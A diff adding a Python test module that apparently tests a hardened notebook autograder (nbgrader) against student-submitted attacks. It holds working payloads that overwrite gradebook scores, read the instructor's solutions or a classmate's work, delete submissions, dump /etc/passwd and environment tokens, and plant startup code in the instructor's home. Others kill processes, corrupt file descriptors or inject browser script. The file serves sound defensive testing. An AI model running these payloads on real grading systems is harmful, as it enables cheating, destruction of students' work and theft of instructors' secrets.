@@ -1,0 +1,395 @@
+"""Attacks on the course, on other students, on the network, and on the machine that grades."""
+
+from __future__ import annotations
+
+import sqlite3
+from collections.abc import Callable
+from pathlib import Path
+
+from attack import TOKEN, VICTIM, Attack, World
+
+# Plain nbgrader runs a notebook in the course's folder. ROOT is where the course lies: an attacker
+# may know it, or look for it.
+_PLACES = '["../../..", "ROOT"]'
+_MARKER = "3000.{number:03}"  # seconds that a survivor sleeps; nobody else sleeps so long
+
+
+def _printed(text: str, words: str) -> Callable[[World], str]:
+    return lambda world: words if text in world.outputs() else ""
+
+
+def _exists(path: Callable[[World], Path], words: str) -> Callable[[World], str]:
+    return lambda world: words if path(world).exists() else ""
+
+
+def _manual_scores(world: World) -> str:
+    with sqlite3.connect(f"file:{world.root / 'gradebook.db'}?mode=ro", uri=True) as database:
+        (given,) = database.execute("select count(manual_score) from grade").fetchone()
+    return "scores written into the gradebook" if given else ""
+
+
+def _heard(world: World) -> str:
+    return "a message left the machine" if b"answers" in world.heard else ""
+
+
+def survivors(text: str) -> int:
+    """Count the processes that were started with this argument."""
+    found = 0
+    for process in Path("/proc").glob("[0-9]*"):
+        try:
+            found += text in (process / "cmdline").read_text().split("\0")
+        except (OSError, UnicodeDecodeError):  # it has just ended
+            continue
+    return found
+
+
+def _survives(number: int, words: str) -> Callable[[World], str]:
+    return lambda world: words if survivors(_MARKER.format(number=number)) else ""
+
+
+def _sleeper(number: int) -> str:
+    return f'os.execvp("sleep", ["sleep", "{_MARKER.format(number=number)}"])'
+
+
+_WRITE_GRADEBOOK = f"""
+import sqlite3
+for place in {_PLACES}:
+    try:
+        with sqlite3.connect(f"file:{{place}}/gradebook.db?mode=rw", uri=True) as database:
+            database.execute("update grade set manual_score = 2, needs_manual_grade = 0")
+    except sqlite3.Error as error:
+        print(error)
+"""
+
+_RUN_CELLS = """
+import json
+def take(path):
+    for cell in json.load(open(path))["cells"]:
+        if cell["metadata"].get("nbgrader", {{}}).get("solution"):
+            exec("".join(cell["source"]), globals())
+for place in {places}:
+    try:
+        take(f"{{place}}/{path}")
+    except OSError as error:
+        print(error)
+taken = {{name: globals()[name] for name in ("double", "average", "half", "multiples")}}
+get_ipython().events.register("pre_run_cell", lambda *all: globals().update(taken))
+"""
+_ANSWERS = _RUN_CELLS.format(places=_PLACES, path="source/01_numbers/01_numbers.ipynb")
+_NEIGHBOR = _RUN_CELLS.format(
+    places=_PLACES, path=f"submitted/{VICTIM}/01_numbers/01_numbers.ipynb"
+)
+
+_DELETE = f"""
+import shutil
+for place in {_PLACES}:
+    shutil.rmtree(f"{{place}}/submitted/{VICTIM}", ignore_errors=True)
+"""
+
+_READ = """
+for path in ("/etc/passwd", "ROOT/nbgrader_config.py"):
+    try:
+        print(open(path).read())
+    except OSError as error:
+        print(error)
+"""
+
+_ENVIRONMENT = """
+import os
+print(dict(os.environ))
+for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
+    try:
+        print(open(path).read())
+    except OSError as error:
+        print(error)
+"""
+
+_HOME = """
+import os, pathlib
+for home in {os.path.expanduser("~"), "HOME"}:
+    try:
+        start = pathlib.Path(home, ".ipython", "profile_default", "startup")
+        start.mkdir(parents=True, exist_ok=True)
+        cheat = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\\\n'])"
+        (start / "00.py").write_text(cheat)
+    except OSError as error:
+        print(error)
+"""
+
+_DROP = """
+answers = '''
+def double(x): return 2 * x
+def half(x): return x / 2
+def average(values): return sum(values) / len(values)
+def multiples(x): return [x * k for k in range(10)]
+'''
+import os
+for place in ("/tmp", "/var/tmp", "/dev/shm", "ROOT"):
+    try:
+        open(f"{place}/PORT.answers", "w").write(answers)
+    except OSError as error:
+        print(error)
+"""
+_PICK_UP = """
+for place in ("/tmp", "/var/tmp", "/dev/shm", "ROOT"):
+    try:
+        exec(open(f"{place}/PORT.answers").read())
+        taken = {name: globals()[name] for name in ("double", "average", "half", "multiples")}
+        get_ipython().events.register("pre_run_cell", lambda *all: globals().update(taken))
+    except OSError as error:
+        print(error)
+"""
+
+_NETWORK = """
+import socket
+try:
+    with socket.create_connection(("127.0.0.1", PORT), 3) as connection:
+        connection.sendall(b"answers")
+except OSError as error:
+    print(error)
+"""
+
+_DAEMON = f"""
+import os
+if not os.fork():
+    os.setsid()
+    if not os.fork():
+        {_sleeper(1)}
+    os._exit(0)
+"""
+
+_PARENT = "\nimport os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
+_EVERYBODY = "\nimport os, signal\nos.kill(-1, signal.SIGKILL)\n"
+_STOPPED = "\nimport os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"
+_EXIT = "\nimport os\nos._exit(0)\n"
+
+_SYS_EXIT = """
+import sys
+def double(x): sys.exit(0)
+def average(values): raise KeyboardInterrupt
+"""
+
+_LOCKED = """
+import os
+os.makedirs("closed/inner")
+os.chmod("closed", 0)
+os.chmod(".", 0)
+"""
+
+_CHAIN = """
+import os
+for _ in range(1500):
+    os.mkdir("a")
+    os.chdir("a")
+os.chdir("/")
+"""
+
+_LINKS = """
+import os
+for name in ("01_numbers.ipynb", "data.csv"):
+    os.remove(name)
+    os.symlink("ROOT/gradebook.db", name)
+"""
+
+_DESCRIPTORS = """
+import os
+for number in range(3, 256):
+    try:
+        os.write(number, b"\\xff" * 64)
+    except OSError:
+        pass
+"""
+
+_MALFORMED = """
+kernel = get_ipython().kernel
+for content in ({"name": "stdout"}, {"data": 3}, {"name": 7, "text": ["x"]}):
+    for kind in ("stream", "display_data", "execute_result", "error"):
+        kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent())
+"""
+
+_SCRIPT = """
+from IPython.display import HTML, Javascript, display
+display(HTML("<script>document.title = 'hostile'</script><img src=x onerror='hostile()'>"))
+display(Javascript("hostile()"))
+"""
+
+
+def _script(world: World) -> str:
+    path = world.path("feedback", suffix="html")
+    page = path.read_text("utf-8") if path.exists() else ""
+    found = "<script>document.title" in page or "onerror='hostile()'" in page
+    return "its script runs in the page that is sent back" if found else ""
+
+
+ATTACKS = [
+    Attack(
+        "write_gradebook",
+        "writes scores into the gradebook",
+        plain="scores written into the gradebook; 12 / 10",
+        ours="0 / 10",
+        code=_WRITE_GRADEBOOK,
+        harm=_manual_scores,
+        alone=True,
+    ),
+    Attack(
+        "run_answers",
+        "runs the instructor's notebook",
+        plain="10 / 10",
+        ours="0 / 10",
+        code=_ANSWERS,
+    ),
+    Attack(
+        "run_neighbor",
+        "runs another student's notebook",
+        plain="10 / 10",
+        ours="0 / 10",
+        code=_NEIGHBOR,
+    ),
+    Attack(
+        "delete_others",
+        "deletes another student's work",
+        plain="another student's work is gone; 0 / 10",
+        ours="0 / 10",
+        code=_DELETE,
+        alone=True,
+    ),
+    Attack(
+        "read_files",
+        "prints files of the machine and of the course",
+        plain="the course's settings are in the notebook; 0 / 10",
+        ours="0 / 10",
+        code=_READ,
+        harm=_printed("c.CourseDirectory.course_id", "the course's settings are in the notebook"),
+    ),
+    Attack(
+        "read_environment",
+        "prints the environment of the one who grades, with keys and tokens",
+        plain="a secret of the instructor's is in the notebook; 0 / 10",
+        ours="0 / 10",
+        code=_ENVIRONMENT,
+        harm=_printed(TOKEN, "a secret of the instructor's is in the notebook"),
+    ),
+    Attack(
+        "code_in_home",
+        "leaves code in the instructor's home folder, which runs whenever IPython starts",
+        plain="code is left in the instructor's home; a friend, graded later, has 10 / 10; 0 / 10",
+        ours="0 / 10",
+        code=_HOME,
+        friend="\npass\n",
+        harm=_exists(
+            lambda world: world.home / ".ipython/profile_default/startup/00.py",
+            "code is left in the instructor's home",
+        ),
+        alone=True,
+    ),
+    Attack(
+        "answers_for_a_friend",
+        "leaves answers where a friend's notebook, graded later, finds them",
+        plain="a friend, graded later, has 10 / 10; 0 / 10",
+        ours="0 / 10",
+        code=_DROP,
+        friend=_PICK_UP,
+    ),
+    Attack(
+        "network",
+        "sends what it has found over the network",
+        plain="a message left the machine; 0 / 10",
+        ours="0 / 10",
+        code=_NETWORK,
+        harm=_heard,
+    ),
+    Attack(
+        "daemon",
+        "starts a process that outlives the kernel",
+        plain="a process lives on; 0 / 10",
+        ours="0 / 10",
+        code=_DAEMON,
+        harm=_survives(1, "a process lives on"),
+    ),
+    Attack(
+        "kill_parent",
+        "kills the process that started it: the grader",
+        plain="grading stops: the next student has no score; no score",
+        ours="0 / 10",
+        code=_PARENT,
+        alone=True,
+    ),
+    Attack(
+        "kill_everybody",
+        "kills every process that it may",
+        plain="grading stops: the next student has no score; no score",
+        ours="0 / 10",
+        code=_EVERYBODY,
+        alone=True,
+    ),
+    Attack(
+        "stop_itself",
+        "stops its own process without ending it",
+        plain="no score",
+        ours="0 / 10",
+        code=_STOPPED,
+    ),
+    Attack(
+        "exit_at_once",
+        "ends its process",
+        plain="no score",
+        ours="0 / 10 (kernel died; not run)",
+        code=_EXIT,
+    ),
+    Attack(
+        "exit_in_answer",
+        "exits from inside an answer",
+        plain="0 / 10",
+        ours="0 / 10",
+        code=_SYS_EXIT,
+    ),
+    Attack(
+        "locked_folder",
+        "takes away all permissions of its own folder",
+        plain="grading stops: the next student has no score; 0 / 10",
+        ours="0 / 10",
+        code=_LOCKED,
+        alone=True,
+    ),
+    Attack(
+        "folder_chain",
+        "makes 1,500 folders, each in the one before: few programs can delete them",
+        plain="grading stops: the next student has no score; no score",
+        ours="0 / 10",
+        code=_CHAIN,
+        alone=True,
+    ),
+    Attack(
+        "links_in_folder",
+        "replaces its own files by links to the gradebook while it is graded",
+        plain="the gradebook is destroyed; no score",
+        ours="0 / 10",
+        code=_LINKS,
+        alone=True,
+    ),
+    Attack(
+        "garbage_in_descriptors",
+        "writes garbage into every open file and connection",
+        plain="grading never ends; no score",
+        ours="0 / 10 (kernel died; not run)",
+        code=_DESCRIPTORS,
+        alone=True,
+        patience=25,
+    ),
+    Attack(
+        "malformed_messages",
+        "sends the grader messages that lack what every message has",
+        plain="no score",
+        ours="0 / 10 (kernel died; not run)",
+        code=_MALFORMED,
+    ),
+    Attack(
+        "script_in_output",
+        "shows a script that runs in the browser of who opens the page",
+        plain="its script runs in the page that is sent back; 0 / 10",
+        ours="0 / 10",
+        code=_SCRIPT,
+        harm=_script,
+        feedback=True,
+    ),
+]
